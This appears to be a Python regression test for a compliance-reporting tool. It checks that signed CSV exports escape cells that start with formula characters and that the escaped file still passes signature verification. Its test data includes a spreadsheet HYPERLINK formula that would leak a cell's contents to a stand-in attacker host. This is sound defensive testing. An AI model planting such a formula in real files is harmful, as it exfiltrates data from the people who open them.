"""Signed CSV reports that auditors open in spreadsheets carry no live formulas (issue 16)."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

from tests.report.conftest import make_file

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'


def _section(text: str, sid: str) -> list[dict[str, str]]:
    block = next(b for b in text.split("\n# section: ") if b.startswith(sid))
    return list(csv.DictReader(io.StringIO(block.split("\n", 1)[1])))


def test_signed_csv_report_neutralises_formulas_and_still_verifies(
    cli: Any, tenant: Any, root: Path, tmp_path: Path
) -> None:
    """An asset named ``=HYPERLINK(...)`` went unescaped into ``report compliance --type
    data_inventory --format csv``; the cell now starts with a quote, booleans read
    ``true``/``false``, numbers stay numbers, and ``report verify`` accepts the signed file
    (the signature covers the neutralised text)."""
    f = make_file(root / "evil.bin", 4096)
    cli.ok(
        "data", "asset", "register", "--type", "dataset", "--classification", "pii",
        "--location", str(f), "--", EVIL, user="olga", tenant="acme",
    )  # fmt: skip
    out = tmp_path / "inventory.csv"
    cli.ok(
        "report", "compliance", "--type", "data_inventory", "--format", "csv", "--out", str(out),
        tenant="acme", user="audrey",
    )  # fmt: skip
    text = out.read_text(encoding="utf-8")
    rows = _section(text, "assets")
    assert [r["name"] for r in rows] == ["'" + EVIL]
    assert rows[0]["legal_hold"] == "false" and rows[0]["size_bytes"] == "4096"
    lines = [line for line in text.splitlines() if not line.startswith("#")]
    assert not any(
        cell.startswith(("=", "+", "@")) for line in lines for cell in next(csv.reader([line]), [])
    )
    verified = cli.ok("report", "verify", str(out), user=None)
    assert verified["ok"] is True
